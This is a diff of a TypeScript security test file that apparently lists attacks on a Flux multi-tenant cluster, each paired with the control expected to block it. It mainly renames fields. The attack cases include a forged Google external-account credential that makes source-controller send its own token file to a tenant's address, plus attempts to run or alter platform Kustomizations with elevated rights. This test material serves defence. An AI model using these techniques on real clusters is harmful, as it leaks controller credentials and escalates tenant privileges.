@@ -14,13 +14,13 @@ const providerIdentity =
 const reports = /this controller of Flux's reports on objects, and neither makes, changes nor removes them/;
 
 /** What Google's library takes for credentials: it reads a file, and sends what is in it to an address. */
-function externalAccount({ loot, thief }: Place): string {
+function externalAccount({ secretFile, exfiltrationServer }: Place): string {
   return JSON.stringify({
     type: "external_account",
     audience: "whoever",
     subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
-    token_url: thief,
-    credential_source: { file: loot },
+    token_url: exfiltrationServer,
+    credential_source: { file: secretFile },
   });
 }
 
@@ -29,7 +29,7 @@ function asCredentials(
   id: string,
   title: string,
   control: "fleet-flux-source" | "fleet-notifications",
-  says: RegExp,
+  message: RegExp,
   [apiVersion, kind, spec]: readonly [string, string, Readonly<Record<string, unknown>>],
 ): Attack {
   return {
@@ -37,7 +37,7 @@ function asCredentials(
     title,
     category,
     by: "reconciler",
-    stoppedBy: [{ control, says }],
+    stoppedBy: [{ control, message }],
     attempt: (place) => ({ kind: "request", request: create(own(place, apiVersion, kind, { spec })) }),
   };
 }
@@ -51,7 +51,7 @@ export const controllerAttacks: readonly Attack[] = [
     title: "has source-controller send a file of its own, such as its token, to an address of the tenant's",
     category,
     by: "push",
-    stoppedBy: [{ control: "fleet-flux-source", says: bucketSecret }],
+    stoppedBy: [{ control: "fleet-flux-source", message: bucketSecret }],
     attempt: (place) => ({
       kind: "sync",
       object: own(
@@ -72,7 +72,7 @@ export const controllerAttacks: readonly Attack[] = [
       beside: [
         own(place, "v1", "Secret", { stringData: { serviceaccount: externalAccount(place) } }, "token-as-credentials"),
       ],
-      evidence: "loot",
+      evidence: "secretFile",
     }),
   },
   asCredentials(
@@ -121,8 +121,8 @@ export const controllerAttacks: readonly Attack[] = [
     category,
     by: "controller",
     stoppedBy: [
-      { control: "controller-rights", says: cannot("create", "kustomizations") },
-      { control: "fleet-controllers", says: reports },
+      { control: "controller-rights", message: cannot("create", "kustomizations") },
+      { control: "fleet-controllers", message: reports },
     ],
     attempt: (place) => {
       const asPlatform = { serviceAccountName: "platform-reconciler", targetNamespace: "kube-system" };
@@ -135,7 +135,7 @@ export const controllerAttacks: readonly Attack[] = [
     title: "changes what the platform's own Kustomization applies",
     category,
     by: "controller",
-    stoppedBy: [{ control: "fleet-controllers", says: reports }],
+    stoppedBy: [{ control: "fleet-controllers", message: reports }],
     attempt: () => ({
       kind: "request",
       request: change(reference(V.kustomize, "Kustomization", "platform", "flux-system"), {
